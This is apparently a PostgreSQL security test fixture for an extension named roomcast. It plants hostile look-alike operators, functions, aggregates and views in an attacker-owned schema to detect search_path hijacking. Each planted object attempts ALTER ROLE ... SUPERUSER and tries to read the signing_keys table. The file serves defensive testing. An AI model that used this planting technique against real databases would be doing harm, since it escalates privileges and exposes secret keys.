-- test/hostile/plant.sql — run AS THE ATTACKER (role rc_hostile, which owns
-- schema evil and nothing else). Plants look-alikes of every operator,
-- function, aggregate and relation name the extension's SQL uses, so that
-- with search_path = evil, pg_catalog each one is found before the real one.
--
-- Every planted object, when it runs, calls evil.hit(n), which:
--   - bumps sequence evil.h<n> (sequences survive the rollback of the call),
--   - bumps evil.hits_priv when it runs as another role than the session's
--     (the extension owner),
--   - tries ALTER ROLE rc_hostile SUPERUSER,
--   - tries to read roomcast.signing_keys (bumps evil.keys_read per key read).
-- evil.objects lists what was planted (n, description).
--
-- Written with search_path = pg_catalog so that planting runs nothing planted.
SET search_path = pg_catalog;

CREATE SEQUENCE evil.hits_priv;
CREATE SEQUENCE evil.keys_read;
CREATE TABLE evil.objects (n int PRIMARY KEY, what text NOT NULL);

CREATE FUNCTION evil.hit(n int) RETURNS void
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    times bigint := nextval(format('evil.h%s', n)::regclass);
    other bigint := 0;
BEGIN
    -- run by the extension acting as its owner: the escalation of finding 1
    IF current_user <> session_user THEN
        other := nextval('evil.hits_priv');
    END IF;
    -- the rest only the first times (operators may run once per row)
    IF times > 2 AND (other = 0 OR other > 5) THEN
        RETURN;
    END IF;
    RAISE WARNING 'HOSTILE object % ran as %', n, current_user;
    BEGIN
        EXECUTE 'ALTER ROLE rc_hostile SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        PERFORM nextval('evil.keys_read') FROM roomcast.signing_keys;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
END
$$;

CREATE FUNCTION evil.hitb(n int) RETURNS boolean
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM evil.hit(n);
    RETURN true;
END
$$;

-- Register object n and its hit counter
CREATE FUNCTION evil._register(what text) RETURNS int
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    n int := (SELECT coalesce(max(o.n), 0) + 1 FROM evil.objects o);
BEGIN
    INSERT INTO evil.objects VALUES (n, what);
    EXECUTE format('CREATE SEQUENCE evil.h%s', n);
    RETURN n;
END
$$;

-- A binary operator op(lt, rt) that does what pg_catalog's does, after hit()
CREATE FUNCTION evil._plant_op(op text, lt text, rt text, res text DEFAULT NULL) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    n int;
BEGIN
    IF res IS NULL THEN
        SELECT o.oprresult::regtype::text INTO res FROM pg_operator o
         WHERE o.oprname = op AND o.oprleft = lt::regtype AND o.oprright = rt::regtype
           AND o.oprnamespace = 'pg_catalog'::regnamespace;
        IF res IS NULL THEN
            RAISE EXCEPTION 'pg_catalog has no operator %(%, %)', op, lt, rt;
        END IF;
    END IF;
    n := evil._register(format('operator evil.%s(%s, %s)', op, lt, rt));
    EXECUTE format($f$CREATE FUNCTION evil.f%s(a %s, b %s) RETURNS %s
                      LANGUAGE plpgsql
                      AS $b$ BEGIN PERFORM evil.hit(%s); RETURN a OPERATOR(pg_catalog.%s) b; END $b$ $f$,
                   n, lt, rt, res, n, op);
    EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.f%s)',
                   op, lt, rt, n);
END
$$;

-- A function evil.name(params) returning ret that returns expr after hit()
CREATE FUNCTION evil._plant_fn(name text, params text, ret text, expr text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    n int := evil._register(format('function evil.%s(%s)', name, params));
BEGIN
    EXECUTE format($f$CREATE FUNCTION evil.%I(%s) RETURNS %s
                      LANGUAGE plpgsql
                      AS $b$ BEGIN PERFORM evil.hit(%s); RETURN %s; END $b$ $f$,
                   name, params, ret, n, expr);
END
$$;

-- A view evil.name over query whose rows appear only after hit()
CREATE FUNCTION evil._plant_view(name text, query text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    n int := evil._register(format('relation evil.%s', name));
BEGIN
    EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM (%s) q WHERE evil.hitb(%s)', name, query, n);
END
$$;

DO $plant$
DECLARE
    t text;
    op text;
BEGIN
    -- comparisons, for every type the extension's statements compare
    FOREACH t IN ARRAY ARRAY['bytea', 'text', 'uuid', 'int2', 'int4', 'int8', 'timestamptz',
                             'date', 'jsonb', 'boolean', 'name', 'oid', '"char"'] LOOP
        FOREACH op IN ARRAY ARRAY['=', '<>', '<', '>', '<=', '>='] LOOP
            PERFORM evil._plant_op(op, t, t);
        END LOOP;
    END LOOP;
    -- arithmetic, concatenation, pattern and json operators
    PERFORM evil._plant_op('+', 'int4', 'int4');
    PERFORM evil._plant_op('-', 'int4', 'int4');
    PERFORM evil._plant_op('+', 'int8', 'int8');
    PERFORM evil._plant_op('-', 'int8', 'int8');
    PERFORM evil._plant_op('+', 'timestamptz', 'interval');
    PERFORM evil._plant_op('-', 'timestamptz', 'interval');
    PERFORM evil._plant_op('-', 'timestamptz', 'timestamptz');
    PERFORM evil._plant_op('+', 'date', 'int4');
    PERFORM evil._plant_op('||', 'text', 'text');
    PERFORM evil._plant_op('||', 'text', 'uuid', 'text');
    PERFORM evil._plant_op('||', 'jsonb', 'jsonb');
    PERFORM evil._plant_op('~', 'text', 'text');
    PERFORM evil._plant_op('!~', 'text', 'text');
    PERFORM evil._plant_op('~', 'name', 'text');
    PERFORM evil._plant_op('!~', 'name', 'text');
    PERFORM evil._plant_op('=', 'name', 'text');
    PERFORM evil._plant_op('?', 'jsonb', 'text');
    PERFORM evil._plant_op('->', 'jsonb', 'text');
    PERFORM evil._plant_op('->>', 'jsonb', 'text');
    PERFORM evil._plant_op('@>', 'jsonb', 'jsonb');

    -- functions named like the built-ins the extension's SQL calls
    PERFORM evil._plant_fn('now', '', 'timestamptz', 'pg_catalog.now()');
    PERFORM evil._plant_fn('clock_timestamp', '', 'timestamptz', 'pg_catalog.clock_timestamp()');
    PERFORM evil._plant_fn('statement_timestamp', '', 'timestamptz', 'pg_catalog.statement_timestamp()');
    PERFORM evil._plant_fn('transaction_timestamp', '', 'timestamptz', 'pg_catalog.transaction_timestamp()');
    PERFORM evil._plant_fn('lower', 'a text', 'text', 'pg_catalog.lower(a)');
    PERFORM evil._plant_fn('upper', 'a text', 'text', 'pg_catalog.upper(a)');
    PERFORM evil._plant_fn('length', 'a text', 'int4', 'pg_catalog.length(a)');
    PERFORM evil._plant_fn('octet_length', 'a bytea', 'int4', 'pg_catalog.octet_length(a)');
    PERFORM evil._plant_fn('octet_length', 'a text', 'int4', 'pg_catalog.octet_length(a)');
    PERFORM evil._plant_fn('substr', 'a text, b int4', 'text', 'pg_catalog.substr(a, b)');
    PERFORM evil._plant_fn('substr', 'a text, b int4, c int4', 'text', 'pg_catalog.substr(a, b, c)');
    PERFORM evil._plant_fn('split_part', 'a text, b text, c int4', 'text', 'pg_catalog.split_part(a, b, c)');
    PERFORM evil._plant_fn('strpos', 'a text, b text', 'int4', 'pg_catalog.strpos(a, b)');
    PERFORM evil._plant_fn('sha256', 'a bytea', 'bytea', 'pg_catalog.sha256(a)');
    PERFORM evil._plant_fn('digest', 'a bytea, b text', 'bytea', 'pg_catalog.sha256(a)');
    PERFORM evil._plant_fn('digest', 'a text, b text', 'bytea', 'pg_catalog.sha256(pg_catalog.convert_to(a, ''UTF8''))');
    PERFORM evil._plant_fn('gen_random_uuid', '', 'uuid', 'pg_catalog.gen_random_uuid()');
    PERFORM evil._plant_fn('make_interval',
        'years int4 DEFAULT 0, months int4 DEFAULT 0, weeks int4 DEFAULT 0, days int4 DEFAULT 0, '
        'hours int4 DEFAULT 0, mins int4 DEFAULT 0, secs float8 DEFAULT 0.0', 'interval',
        'pg_catalog.make_interval(years, months, weeks, days, hours, mins, secs)');
    PERFORM evil._plant_fn('to_jsonb', 'a anyelement', 'jsonb', 'pg_catalog.to_jsonb(a)');
    PERFORM evil._plant_fn('to_char', 'a timestamp, b text', 'text', 'pg_catalog.to_char(a, b)');
    PERFORM evil._plant_fn('to_char', 'a timestamptz, b text', 'text', 'pg_catalog.to_char(a, b)');
    PERFORM evil._plant_fn('jsonb_build_object', 'a text, b text', 'jsonb', 'pg_catalog.jsonb_build_object(a, b)');
    PERFORM evil._plant_fn('jsonb_build_object', 'a text, b boolean, c text, d jsonb, e text, f jsonb', 'jsonb',
        'pg_catalog.jsonb_build_object(a, b, c, d, e, f)');
    PERFORM evil._plant_fn('jsonb_array_length', 'a jsonb', 'int4', 'pg_catalog.jsonb_array_length(a)');
    PERFORM evil._plant_fn('nullif', 'a text, b text', 'text', 'CASE WHEN a OPERATOR(pg_catalog.=) b THEN NULL ELSE a END');
    PERFORM evil._plant_fn('coalesce', 'a text, b text', 'text', 'COALESCE(a, b)');
    PERFORM evil._plant_fn('greatest', 'a int4, b int4', 'int4', 'GREATEST(a, b)');
    PERFORM evil._plant_fn('least', 'a int4, b int4', 'int4', 'LEAST(a, b)');
    PERFORM evil._plant_fn('current_setting', 'a text', 'text', 'pg_catalog.current_setting(a)');
    PERFORM evil._plant_fn('pg_get_expr', 'a pg_node_tree, b oid', 'text', 'pg_catalog.pg_get_expr(a, b)');
    PERFORM evil._plant_fn('format', 'a text', 'text', 'pg_catalog.format(a)');
    PERFORM evil._plant_fn('date_trunc', 'a text, b timestamp', 'timestamp', 'pg_catalog.date_trunc(a, b)');
    PERFORM evil._plant_fn('to_regclass', 'a text', 'regclass', 'pg_catalog.to_regclass(a)');
    PERFORM evil._plant_fn('to_regprocedure', 'a text', 'regprocedure', 'pg_catalog.to_regprocedure(a)');
    PERFORM evil._plant_fn('hashtextextended', 'a text, b int8', 'int8', 'pg_catalog.hashtextextended(a, b)');
    PERFORM evil._plant_fn('to_date', 'a text, b text', 'date', 'pg_catalog.to_date(a, b)');
    PERFORM evil._plant_fn('encode', 'a bytea, b text', 'text', 'pg_catalog.encode(a, b)');
    PERFORM evil._plant_fn('decode', 'a text, b text', 'bytea', 'pg_catalog.decode(a, b)');
    PERFORM evil._plant_fn('pg_partition_root', 'a regclass', 'regclass', 'pg_catalog.pg_partition_root(a)');
    PERFORM evil._plant_fn('pg_stat_get_numscans', 'a oid', 'int8', 'pg_catalog.pg_stat_get_numscans(a)');
    PERFORM evil._plant_fn('quote_ident', 'a text', 'text', 'pg_catalog.quote_ident(a)');
    PERFORM evil._plant_fn('random', '', 'float8', 'pg_catalog.random()');
END
$plant$;

-- unnest(anyarray) returns a set: written out
DO $$
DECLARE
    n int := evil._register('function evil.unnest(anyarray)');
BEGIN
    EXECUTE format($f$CREATE FUNCTION evil.unnest(a anyarray) RETURNS SETOF anyelement
                      LANGUAGE plpgsql
                      AS $b$ BEGIN PERFORM evil.hit(%s); RETURN QUERY SELECT pg_catalog.unnest(a); END $b$ $f$, n);
END
$$;

-- aggregates: count(*), jsonb_agg(anyelement), max(date), sum(int8)
DO $$
DECLARE
    n int;
BEGIN
    n := evil._register('aggregate evil.count(*)');
    EXECUTE format($f$CREATE FUNCTION evil.count_step(s int8) RETURNS int8
                      LANGUAGE plpgsql
                      AS $b$ BEGIN PERFORM evil.hit(%s); RETURN s OPERATOR(pg_catalog.+) 1; END $b$ $f$, n);
    CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = int8, INITCOND = '0');
    n := evil._register('aggregate evil.jsonb_agg(anyelement)');
    EXECUTE format($f$CREATE FUNCTION evil.jsonb_agg_step(s jsonb, v anyelement) RETURNS jsonb
                      LANGUAGE plpgsql
                      AS $b$ BEGIN PERFORM evil.hit(%s);
                         RETURN s OPERATOR(pg_catalog.||) pg_catalog.jsonb_build_array(pg_catalog.to_jsonb(v)); END $b$ $f$, n);
    CREATE AGGREGATE evil.jsonb_agg(anyelement) (SFUNC = evil.jsonb_agg_step, STYPE = jsonb, INITCOND = '[]');
    n := evil._register('aggregate evil.max(date)');
    EXECUTE format($f$CREATE FUNCTION evil.max_step(s date, v date) RETURNS date
                      LANGUAGE plpgsql
                      AS $b$ BEGIN PERFORM evil.hit(%s); RETURN GREATEST(s, v); END $b$ $f$, n);
    CREATE AGGREGATE evil.max(date) (SFUNC = evil.max_step, STYPE = date);
    n := evil._register('aggregate evil.sum(int8)');
    EXECUTE format($f$CREATE FUNCTION evil.sum_step(s numeric, v int8) RETURNS numeric
                      LANGUAGE plpgsql
                      AS $b$ BEGIN PERFORM evil.hit(%s); RETURN COALESCE(s, 0) OPERATOR(pg_catalog.+) v; END $b$ $f$, n);
    CREATE AGGREGATE evil.sum(int8) (SFUNC = evil.sum_step, STYPE = numeric);
END
$$;

-- relations named like the extension's tables and the catalogs it reads
DO $$
DECLARE
    t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['tenants', 'users', 'events', 'notifications', 'inbox_counters',
                             'room_kinds', 'rpc_methods', 'socket_rooms'] LOOP
        PERFORM evil._plant_view(t, format('SELECT * FROM roomcast.%I', t));
    END LOOP;
    -- tables the attacker may not read: same columns, made up
    PERFORM evil._plant_view('signing_keys',
        'SELECT ''k''::text AS kid, ''HS256''::text AS alg, ''\x00''::bytea AS secret, '
        'pg_catalog.now() AS created_at, NULL::timestamptz AS retired_at');
    PERFORM evil._plant_view('refresh_tokens',
        'SELECT NULL::uuid AS tenant_id, NULL::uuid AS id, NULL::uuid AS family_id, NULL::uuid AS user_id, '
        'NULL::bytea AS token_hash, NULL::text AS fingerprint, NULL::timestamptz AS created_at, '
        'NULL::timestamptz AS expires_at, NULL::timestamptz AS rotated_at, NULL::timestamptz AS revoked_at');
    PERFORM evil._plant_view('sso_sessions',
        'SELECT NULL::uuid AS tenant_id, NULL::uuid AS user_id, NULL::timestamptz AS expires_at, '
        'NULL::timestamptz AS created_at');
    PERFORM evil._plant_view('security_events',
        'SELECT NULL::uuid AS tenant_id, NULL::int8 AS id, NULL::uuid AS user_id, NULL::text AS kind, '
        'NULL::text AS detail, NULL::text AS fingerprint, NULL::timestamptz AS created_at');
    FOREACH t IN ARRAY ARRAY['pg_class', 'pg_namespace', 'pg_attribute', 'pg_policy', 'pg_index',
                             'pg_constraint', 'pg_inherits', 'pg_depend', 'pg_roles', 'pg_proc'] LOOP
        -- every column but pseudo-typed ones (pg_attribute.attmissingval)
        PERFORM evil._plant_view(t, format('SELECT %s FROM pg_catalog.%I',
            (SELECT string_agg(quote_ident(a.attname), ', ' ORDER BY a.attnum) FROM pg_attribute a
              WHERE a.attrelid = ('pg_catalog.' || t)::regclass AND a.attnum > 0
                AND NOT a.attisdropped AND a.atttypid <> 'anyarray'::regtype), t));
    END LOOP;
END
$$;

-- anyone the extension acts as may count a hit
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT USAGE, SELECT, UPDATE ON ALL SEQUENCES IN SCHEMA evil TO PUBLIC;
GRANT SELECT ON ALL TABLES IN SCHEMA evil TO PUBLIC;
DROP FUNCTION evil._plant_op(text, text, text, text);
DROP FUNCTION evil._plant_fn(text, text, text, text);
DROP FUNCTION evil._plant_view(text, text);
DROP FUNCTION evil._register(text);

-- an application table of the attacker's, for protect() and the loaders
CREATE TABLE evil.docs (tenant_id uuid NOT NULL, id int4 PRIMARY KEY, title text);
INSERT INTO evil.docs VALUES ('22000000-0000-0000-0000-000000000001', 1, 'one'),
                             ('22000000-0000-0000-0000-000000000001', 2, 'two');
SELECT count(*) AS planted FROM evil.objects;
